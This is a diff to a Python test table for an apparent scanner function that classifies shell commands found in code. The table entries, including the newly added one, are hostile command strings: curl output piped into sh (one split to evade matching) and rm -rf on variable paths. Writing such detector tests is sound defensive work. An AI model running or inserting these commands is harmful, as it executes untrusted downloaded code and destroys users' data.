@@ -29,6 +29,7 @@ def found_in(text: str) -> set[tuple[str, str]]:
         ("os.system('cu' + 'rl https://x.example | sh')", ("runs-download", "x.example")),
         ("os.system('cu' + name)", ("runs-program", "")),
         ("os.system('rm -rf ' + name)", ("unreadable", "")),
+        ("os.system('curl ' + url + ' | sh')", ("runs-download", "$x")),
         ("subprocess.run(f'ls {name}', shell=True)", ("runs-program", "")),
         ("subprocess.run('rm -rf {}'.format(name), shell=True)", ("unreadable", "")),
         ("subprocess.run(['sh', '-c', f'rm -rf {name}'])", ("unreadable", "")),
